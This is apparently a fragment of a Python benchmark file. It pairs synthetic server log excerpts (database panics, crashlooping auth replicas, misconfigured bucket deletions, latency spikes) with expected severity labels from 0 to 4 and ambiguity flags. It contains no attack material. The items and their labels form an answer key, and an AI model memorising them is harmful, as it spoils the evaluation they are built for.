        2024-05-06 08:00:05 INFO  scheduler: job rotate-logs completed in 3.1s
        """, 0),
    it(SEVERITY, """
        2024-05-06 09:14:20 WARN  image-service: deprecated parameter "quality=max" used by client app/2.1 (will be removed in v4)
        """, 1),
    it(SEVERITY, """
        2024-05-06 10:20:00 ERROR search-api: p95 latency 3.4s (SLO 800ms), error rate 4.2% (SLO 1%); elasticsearch node es-4 slow GC
        """, 2),
    it(SEVERITY, """
        2024-05-06 11:02:00 CRIT  api-gateway: all upstreams for service "accounts" unhealthy; returning 503 to 100% of /accounts/* requests
        """, 3),
    it(SEVERITY, """
        2024-05-06 12:30:11 CRIT  storage: RAID array md0 on db-primary-1 degraded (2 of 4 disks failed); filesystem remounted read-only
        2024-05-06 12:30:12 CRIT  postgres: PANIC: could not write to file "base/16384/2619": Read-only file system
        2024-05-06 12:30:14 CRIT  replication: standby db-primary-2 is 6 hours behind (WAL archive missing segments)
        2024-05-06 12:30:20 CRIT  status: all regions reporting checkout failures
        """, 4),
    it(SEVERITY, """
        Oct 03 14:00:01 ci-runner-4 dockerd[881]: level=warning msg="Your kernel does not support swap limit capabilities"
        """, 1, amb=True),
    it(SEVERITY, """
        2024-05-07 16:44:02 ERROR thumbnailer: failed to generate preview for 3 of 2,140 uploads (unsupported HEIC variant); originals stored fine
        """, 1),
    it(SEVERITY, """
        2024-05-07 18:00:00 ERROR payments: 18% of card authorisations failing with "issuer timeout" for Visa cards in EU; retries succeeding ~60% of the time
        """, 2),
    it(SEVERITY, """
        2024-05-08 02:15:31 ERROR migrate: migration 0142_drop_legacy_columns ran against PRODUCTION instead of staging; 'customers.phone' dropped
        2024-05-08 02:15:31 INFO  migrate: latest backup 2024-05-07 02:00 (24h old)
        """, 4, amb=True),
    it(SEVERITY, """
        2024-05-08 07:30:00 INFO  canary: v8.4.0 at 5% traffic, error rate 0.3% (baseline 0.3%), promoting to 25%
        """, 0),
    it(SEVERITY, LONG_NGINX, 3, amb=True),
    it(SEVERITY, """
        2024-05-10 04:00:00 INFO  certbot: certificates for shop.example.org renewed, next renewal in 60 days
        2024-05-10 04:00:01 INFO  nginx: configuration reloaded
        """, 0),
    it(SEVERITY, """
        2024-05-10 09:31:12 WARN  queue: email-digest backlog 42,000 messages (normally < 1,000); digests delayed ~3 hours; transactional email unaffected
        """, 2),
    it(SEVERITY, """
        2024-05-10 14:05:00 ERROR auth-service: all 6 replicas crashlooping after config push; logins and token refresh failing for every user; existing sessions still valid for up to 15 minutes
        """, 3),
    it(SEVERITY, """
        2024-05-11 01:12:44 CRIT  object-store: lifecycle rule misconfigured ("expire after 1 day" applied to bucket customer-uploads instead of tmp-uploads); 1.2M objects deleted so far, deletion continuing; versioning disabled on bucket
        """, 4),
    it(SEVERITY, """
        2024-05-09 13:12:00 ERROR sso: SAML assertion signature invalid for IdP "okta-main" (certificate rotated by IdP at 13:00); all SSO logins failing; password logins unaffected (used by 8% of users)
        """, 3, amb=True),
    # ---- medium-length excerpts -----------------------------------------------------------------------------
    it(RECOVERED, """
        2024-08-12T03:40:11Z WARN  order-api: HikariPool-1 - Connection is not available, request timed out after 30000ms (total=20, active=20, idle=0, waiting=57)
        2024-08-12T03:40:11Z ERROR order-api: GET /orders/8841 500 30012ms
        2024-08-12T03:40:14Z ERROR order-api: GET /orders/8839 500 30009ms
        2024-08-12T03:40:20Z INFO  pg: long-running query terminated by statement_timeout (pid 22810, 31 min): REFRESH MATERIALIZED VIEW reporting.daily_orders
        2024-08-12T03:40:21Z INFO  order-api: HikariPool-1 - pool stats (total=20, active=6, idle=14, waiting=0)
        2024-08-12T03:40:22Z INFO  order-api: GET /orders/8843 200 41ms
        2024-08-12T03:40:25Z INFO  order-api: POST /orders 201 88ms
        2024-08-12T03:41:00Z INFO  order-api: 1-minute summary: 1,204 requests, 0 errors, p95 72ms
        2024-08-12T03:42:00Z INFO  order-api: 1-minute summary: 1,188 requests, 0 errors, p95 69ms
        """, True),
    it(SEVERITY, """
        2024-09-03T09:15:02Z WARN  search-api: upstream es-cluster-eu yellow: 1 of 6 data nodes left the cluster (es-data-4)
        2024-09-03T09:15:05Z WARN  search-api: 12 of 60 primary shards relocating; replicas unassigned for index products_v7
        2024-09-03T09:16:00Z INFO  search-api: 1-minute summary: 18,420 requests, 212 timeouts (1.2%), p95 1,840ms (SLO 500ms)
        2024-09-03T09:17:00Z INFO  search-api: 1-minute summary: 18,905 requests, 198 timeouts (1.0%), p95 1,710ms (SLO 500ms)
        2024-09-03T09:17:30Z INFO  autoscaler: replacement node es-data-7 joining cluster
        2024-09-03T09:18:00Z INFO  search-api: 1-minute summary: 19,110 requests, 176 timeouts (0.9%), p95 1,650ms (SLO 500ms)
        2024-09-03T09:18:00Z INFO  checkout-api: unaffected (no search dependency), error rate 0.02%
        """, 2),
]
